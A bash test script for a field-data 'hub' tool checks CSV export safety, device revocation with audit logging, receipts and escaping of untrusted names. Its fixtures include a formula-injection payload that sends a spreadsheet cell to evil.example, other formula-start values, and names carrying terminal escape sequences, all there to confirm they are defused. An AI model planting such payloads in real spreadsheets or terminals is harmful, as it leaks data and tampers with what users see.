#!/usr/bin/env bash
# The hub as a new operator meets it (issue 10): `hub info` prints the key
# fingerprints as the device's `init` does; `hub export --format csv` is safe
# and readable in a spreadsheet (formula starts defused, UTF-8 mark, the
# form's column order, labels beside codes, attachments as file names);
# `hub devices revoke` asks first and `unrevoke` takes it back with a reason
# in the audit log; `hub receipt` refuses an unknown device and takes a name;
# a device name with control characters is refused, and outside text is shown
# escaped.
set -eu
. "$(dirname "$0")/lib/common.sh"
cd "$T"
hub_env

$F hub init --home hub --name "Kyiv hub" >/dev/null
$F init --home dev --name "tablet 1" --hub hub/hub-card.json >init.out
$F device-card --home dev --to dev.card >/dev/null
$F hub devices add dev.card --home hub >/dev/null
DEV=$(python3 -c 'import json;print(json.load(open("dev/device.json"))["device_id"])')

# hub info: the fingerprints the device printed, the same lines; no passphrase.
env -u FIELDKIT_PASSPHRASE_FILE setsid -w $F hub info --home hub </dev/null >info.out ||
	fail "hub info needs a passphrase"
grep "encryption key\|signing key id" init.out >fp.dev
grep "encryption key\|signing key id" info.out >fp.hub
[ -s fp.dev ] && cmp -s fp.dev fp.hub || fail "hub info's fingerprints differ from init's: $(cat fp.hub) / $(cat fp.dev)"
grep -q 'hub "Kyiv hub"' info.out || fail "hub info: no name"
ok "hub info prints the fingerprints exactly as the device's init, without the passphrase"

# CSV a spreadsheet can open safely.
{ printf '\377\330\377\340'; head -c 2000 /dev/urandom; } >photo.jpg # a JPEG by its head
cat >recs.jsonl <<'J'
{"reporter_surname_cyr":"=HYPERLINK(\"http://evil.example/\"&A1,\"click\")","reporter_given_cyr":"+380501234567","report_date":"2026-09-01","reporter_age":41,"consent_share":"no","consent_reason":"@SUM(1+1)","children":[{"child_surname_cyr":"-2+3","child_sex":"f"},{"child_surname_cyr":"Коваленко","child_sex":"m"}]}
J
$F capture "$FORM" --from recs.jsonl --attach photo=photo.jpg --home dev >/dev/null
$F export --home dev --to stick >/dev/null
$F hub import --home hub stick >/dev/null
$F hub export --home hub --format csv --to x1 --labels uk >/dev/null
python3 - x1/capture-test-v1.csv x1/capture-test-v1.children.csv "$(rows 'select ct_hash from attachments')" <<'PY' || fail "csv export"
import csv, sys
main, kids, h = sys.argv[1], sys.argv[2], sys.argv[3]
for p in (main, kids):
    raw = open(p, "rb").read()
    assert raw.startswith(b"\xef\xbb\xbf"), p + ": no UTF-8 byte order mark"
rows = list(csv.reader(open(main, encoding="utf-8-sig")))
head, row = rows[0], dict(zip(rows[0], rows[1]))
want = ["record_id", "device_id", "seq", "short_ref", "finalized_at", "reporter_surname_cyr",
        "reporter_surname_lat", "reporter_given_cyr", "reporter_given_lat", "report_date",
        "reporter_age", "photo", "consent_share", "consent_share_label", "consent_reason"]
assert head == want, head
for k in ("reporter_surname_cyr", "reporter_given_cyr", "consent_reason"):
    assert row[k].startswith("'"), (k, row[k])
assert row["reporter_surname_cyr"] == "'=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", row
assert row["reporter_age"] == "41", row["reporter_age"]
assert row["consent_share"] == "no" and row["consent_share_label"] == "ні", row
assert row["photo"] == "files/%s.age" % h, row["photo"]
krows = list(csv.reader(open(kids, encoding="utf-8-sig")))
assert krows[0] == ["record_id", "index", "child_surname_cyr", "child_sex", "child_sex_label", "child_dob"], krows[0]
k = [dict(zip(krows[0], r)) for r in krows[1:]]
assert k[0]["child_surname_cyr"] == "'-2+3" and k[0]["child_sex_label"] == "жіноча", k[0]
assert k[1]["child_surname_cyr"] == "Коваленко" and k[1]["child_sex"] == "m", k[1]
PY
for f in x1/*.csv; do
	! grep -aq '^[=+@-]\|,[=+@-]' "$f" || fail "$f: a cell starts like a formula"
done
$F hub export --home hub --format csv --to x2 >/dev/null
head -1 x2/capture-test-v1.csv | grep -q "consent_share,consent_reason" || fail "labels without --labels"
expect_fail "--labels with jsonl" $F hub export --home hub --format jsonl --to x3 --labels uk
expect_fail "--labels in a language the form lacks" $F hub export --home hub --format csv --to x4 --labels de
grep -q "form capture-test has no labels in de (it has: uk, en)" "$T/err" || fail "labels de: $(cat "$T/err")"
[ ! -e x4/capture-test-v1.csv ] || fail "labels de: a file was written"
# Usage errors come before the passphrase is asked (none given here), with the command named.
expect_fail "--format xml" env -u FIELDKIT_PASSPHRASE_FILE setsid -w $F hub export --home hub --format xml --to x5
grep -q "hub export: --format is jsonl or csv" "$T/err" || fail "format xml: $(cat "$T/err")"
ok "hub export csv: formula starts defused, UTF-8 mark, the form's column order, labels beside codes, the photo as its file"

# hub show by the slip's reference (dash and case as typed) or by the start of an id.
ID=$(rows 'select record_id from records limit 1')
REF=$(rows "select short_ref from records where record_id = '$ID'")
slip=$(echo "${REF:0:4}-${REF:4}" | tr 'A-Z' 'a-z')
$F hub show "$slip" --home hub | grep -q "\"record_id\": \"$ID\"" || fail "hub show $slip"
$F hub show "${REF}" --home hub | grep -q "\"record_id\": \"$ID\"" || fail "hub show $REF"
$F hub show "${ID:0:8}" --home hub | grep -q "\"record_id\": \"$ID\"" || fail "hub show ${ID:0:8}"
expect_fail "hub show by 3 characters of an id" $F hub show "${ID:0:3}" --home hub
typo=X; [ "${REF:7:1}" != X ] || typo=Y
expect_fail "hub show of a reference with a typo" $F hub show "${REF:0:7}$typo" --home hub
ok "hub show by the reference on the slip ($slip) and by the start of a record id"

# hub list: the slip code as the slip shows it; --device by id or name; an
# unknown device is an error, not an empty list.
$F hub list --home hub | grep -q "	${REF:0:4}-${REF:4}	" || fail "hub list does not show ${REF:0:4}-${REF:4}: $($F hub list --home hub)"
[ "$($F hub list --home hub --device "tablet 1")" = "$($F hub list --home hub --device "$DEV")" ] &&
	[ -n "$($F hub list --home hub --device "tablet 1")" ] || fail "hub list --device by name"
expect_fail "hub list --device of an unknown device" $F hub list --home hub --device "no such tablet"
grep -q 'no device with the id or name "no such tablet"' "$T/err" || fail "list unknown device: $(cat "$T/err")"
ok "hub list: slip codes as XXXX-XXXX, --device by name or id, an unknown device refused"

# Revoking asks first; unrevoke takes it back, with the reason audited.
expect_fail "revoke without a terminal or --yes" setsid -w $F hub devices revoke "$DEV" --home hub
$F hub devices list --home hub | grep -q "active" || fail "revoked without confirmation"
$PTY no -- $F hub devices revoke "tablet 1" --home hub >/dev/null 2>tty.out && fail "revoked after \"no\""
$F hub devices list --home hub | grep -q "active" || fail "revoked after \"no\""
$PTY yes -- $F hub devices revoke "tablet 1" --home hub >/dev/null 2>tty.out || fail "revoke after yes: $(cat tty.out)"
$F hub devices list --home hub | grep -q "active" && fail "not revoked after yes"
$F hub devices list --home hub | grep -q "	revoked 20[0-9-]*T" || fail "devices list: $($F hub devices list --home hub)"
rec='{"reporter_surname_cyr":"Бондар","reporter_given_cyr":"Марія","report_date":"2026-09-03","children":[{"child_surname_cyr":"Бондар"}]}'
echo "$rec" | $F capture "$FORM" --from - --home dev >/dev/null
$F export --home dev --to stick2 >/dev/null
expect_fail "a bundle of the revoked device" $F hub import --home hub stick2
expect_fail "unrevoke without a reason" $F hub devices unrevoke "$DEV" --home hub
$F hub devices unrevoke "$DEV" --home hub --reason "tablet found, sealed bag, checked by O.K." >/dev/null
$F hub import --home hub stick2 | grep -q "1 new" || fail "import after unrevoke"
$F hub devices revoke "$DEV" --home hub --yes >/dev/null
[ "$(rows "select detail from audit where action = 'device-unrevoke'")" = "$DEV: tablet found, sealed bag, checked by O.K." ] ||
	fail "unrevoke not audited with its reason"
ok "revoke asks (--yes for scripts); unrevoke with a reason lets what the device captured in, audited"

# Receipts: by name or id; an unknown device refused, nothing written.
expect_fail "receipt for an unknown device" $F hub receipt --home hub --device "no such tablet" --to rc
[ ! -e rc ] || fail "a receipt was written for an unknown device"
$F hub receipt --home hub --device "tablet 1" --to rc | grep -q "receipt for 2 records of device $DEV" ||
	fail "receipt by name"
ok "hub receipt takes a device's name, refuses an unknown device"

# Names with control characters are refused at registration; outside text is escaped.
expect_fail "init --name with ESC" $F init --home evil0 --name "$(printf 'tab\033[2Jlet')" --hub hub/hub-card.json
grep -q "control characters" "$T/err" || fail "init took a name with ESC: $(cat "$T/err")"
# A device.json edited by hand (or an older device) may still carry one.
$F init --home evil --name "plain" --hub hub/hub-card.json >/dev/null
python3 -c 'import json,sys; c=json.load(open(sys.argv[1])); c["name"]="tab\x1b[2Jlet\tx\nrow"; json.dump(c, open(sys.argv[1],"w"))' evil/device.json
$F device-card --home evil --to evil.card >/dev/null
expect_fail "a device card whose name holds ESC, a tab and a newline" $F hub devices add evil.card --home hub
grep -q "control characters" "$T/err" || fail "not refused for its name: $(cat "$T/err")"
! grep -q $'\x1b' "$T/err" || fail "the refusal printed ESC raw"
[ "$(rows 'select count(*) from devices')" = 1 ] || fail "the device with the evil name was registered"
mkdir stick3 && cp stick2/*.fkb "stick3/$(printf 'evil\x1b[2Jname').fkb"
$F hub devices unrevoke "$DEV" --home hub --reason "test" >/dev/null
$F hub import --home hub stick3 >imp3.out 2>&1 || true
! grep -q $'\x1b' imp3.out || fail "a file name from the stick was printed raw: $(od -c imp3.out | head)"
grep -qF 'evil\x1b[2Jname' imp3.out || fail "the file name was not shown escaped: $(cat imp3.out)"
ok "control characters refused in device names, escaped in what import prints"

# A stick formatted FAT may show X.FKB in capitals: imported. A folder whose
# bundles sit in folders inside it: the message says those are not searched.
rec='{"reporter_surname_cyr":"Гнатюк","reporter_given_cyr":"Ірина","report_date":"2026-09-04","children":[{"child_surname_cyr":"Гнатюк"}]}'
echo "$rec" | $F capture "$FORM" --from - --home dev >/dev/null
$F export --home dev --to stick4 >/dev/null
for f in stick4/*.fkb; do mv "$f" "stick4/UPPER.FKB"; done
$F hub import --home hub stick4 | grep -q "UPPER.FKB: .* 1 new" || fail "X.FKB not imported"
mkdir -p outer && mv stick4 outer/
expect_fail "a folder holding only folders" $F hub import --home hub outer
grep -q "the folders inside it are not searched" "$T/err" || fail "subfolder hint: $(cat "$T/err")"
ok "X.FKB imported; bundles in folders inside the one named: said, not silently nothing"
finish
